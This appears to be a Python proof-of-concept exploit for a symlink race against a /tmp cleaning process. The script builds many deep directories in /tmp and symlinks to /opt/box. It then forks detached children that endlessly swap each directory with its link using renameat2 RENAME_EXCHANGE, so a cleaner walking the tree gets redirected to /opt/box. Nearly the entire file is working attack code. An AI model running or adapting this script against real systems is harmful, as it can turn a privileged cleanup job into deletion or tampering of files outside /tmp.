# Children go on swapping directories for links while the cleaner looks at them.
import ctypes
import os

EXCHANGE, HERE = 2, -100
renameat2 = ctypes.CDLL(None).renameat2
for number in range(40):
    os.makedirs(f"/tmp/{number}/in/{'x' * 200}")
    os.symlink("/opt/box", f"/tmp/link{number}")
for child in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            for number in range(child, 40, 4):
                a, b = f"/tmp/{number}".encode(), f"/tmp/link{number}".encode()
                if renameat2(HERE, a, HERE, b, EXCHANGE):
                    os.makedirs(a, exist_ok=True)
os._exit(0)
